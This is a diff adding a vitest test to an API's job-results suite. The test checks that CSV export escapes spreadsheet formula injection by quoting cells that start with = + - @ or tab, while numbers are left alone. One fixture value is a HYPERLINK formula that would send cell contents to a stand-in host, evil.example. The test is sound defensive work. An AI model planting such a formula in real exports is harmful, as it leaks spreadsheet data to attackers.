@@ -5,6 +5,8 @@
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { startHarness } from '../harness.js';
 import type { Harness } from '../harness.js';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { repoJson } from '../data.js';
 import { anyRepo, call, heldRepos, ndjson, repoUrl, waitFinal, waitFor } from './helpers.js';
 
 let h: Harness;
@@ -104,6 +106,46 @@ describe('a job runs each item through the single-request pipeline', () => {
     expect(second[header.indexOf('full_name')]).toBe('csv/r1');
     expect((await call(h, 'GET', `/v1/jobs/${job.id}/results?after=x`, { key })).status).toBe(400);
     expect((await call(h, 'GET', `/v1/jobs/${job.id}/results?format=xml`, { key })).status).toBe(400);
+  });
+
+  it('?format=csv: text that a spreadsheet would run as a formula (= + - @ tab CR) starts with a quote; numbers stay numbers', async () => {
+    h.replay.add({
+      host: 'api.github.com',
+      path: '/repos/formula/evil',
+      response: {
+        headers: { 'content-type': 'application/json' },
+        body: repoJson('formula', 'evil', { description: '=HYPERLINK("https://evil.example/?x="&A1,"Click")', stargazers_count: -3 }),
+      },
+    });
+    h.replay.add({
+      host: 'api.github.com',
+      path: '/repos/formula/plain',
+      response: { headers: { 'content-type': 'application/json' }, body: repoJson('formula', 'plain', { description: '@SUM(1+1)' }) },
+    });
+    const { key } = await h.key(10);
+    const list = [
+      { url: repoUrl('formula', 'evil'), note: '-2+3', offset: '-5' },
+      { url: repoUrl('formula', 'plain'), note: '+1', offset: '\t=1' },
+    ];
+    const created = await call(h, 'POST', '/v1/jobs', { key, body: { operation: OP, items: list } });
+    await waitFinal(h, key, created.body.job.id);
+    const csv = await call(h, 'GET', `/v1/jobs/${created.body.job.id}/results?format=csv`, { key });
+    const rows = parseCsv(csv.text, { relax_column_count: true }) as string[][];
+    const [header, evil, plain] = rows;
+    const col = (row: string[], name: string) => row[header.indexOf(name)];
+    expect(col(evil, 'description')).toBe(`'=HYPERLINK("https://evil.example/?x="&A1,"Click")`);
+    expect(col(plain, 'description')).toBe(`'@SUM(1+1)`);
+    expect(col(evil, 'input.note')).toBe(`'-2+3`);
+    expect(col(plain, 'input.offset')).toBe(`'\t=1`);
+    // Plain numbers: an input's "-5" and "+1", an upstream's -3, our own columns.
+    expect(col(evil, 'input.offset')).toBe('-5');
+    expect(col(plain, 'input.note')).toBe('+1');
+    expect(col(evil, 'stars_count')).toBe('-3');
+    expect([col(evil, 'index'), col(evil, 'status'), col(evil, 'credits_charged')]).toEqual(['0', '200', '1']);
+    // The NDJSON results carry the text as it is.
+    expect(ndjson((await call(h, 'GET', `/v1/jobs/${created.body.job.id}/results`, { key })).text)[1].body.repository.description).toBe(
+      '@SUM(1+1)',
+    );
   });
 });
 
